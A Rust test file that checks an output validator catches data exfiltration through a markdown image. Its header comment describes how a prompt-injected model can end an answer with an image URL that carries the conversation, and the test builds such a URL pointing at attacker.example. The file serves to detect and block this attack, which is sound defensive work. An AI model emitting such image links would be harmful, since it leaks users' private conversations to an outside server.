//! A prompt-injected model ends its answer with a markdown image whose URL carries the conversation. The chat window
//! fetches the image as it renders the answer: no click, and the data is on the attacker's server.

use airlock_guard::score::Verdict;
use airlock_guard::validate::{FindingKind, OutputPolicy, validate};

#[test]
fn exfiltrate_data_through_a_markdown_image() {
    let url = "https://attacker.example/pixel.png?c=user%20asked%20about%20the%20Q3%20layoffs";
    let output = format!("The summary is above.\n\n![loading]({url} \"status\")\n");
    let policy = OutputPolicy { allowed_hosts: vec!["docs.rs".into()], ..OutputPolicy::default() };
    let v = validate(&output, None, &policy, None);
    assert_eq!(v.verdict, Verdict::Block, "{:#?}", v.findings);
    assert_eq!(v.findings.len(), 1, "{:#?}", v.findings);
    let f = &v.findings[0];
    assert_eq!(f.kind, FindingKind::ImageExfiltration);
    assert_eq!(&output[f.span.clone()], url);
    assert!(f.detail.contains("attacker.example"), "{}", f.detail);
    assert!(!f.detail.contains("layoffs"), "the finding quotes no data: {}", f.detail);
}
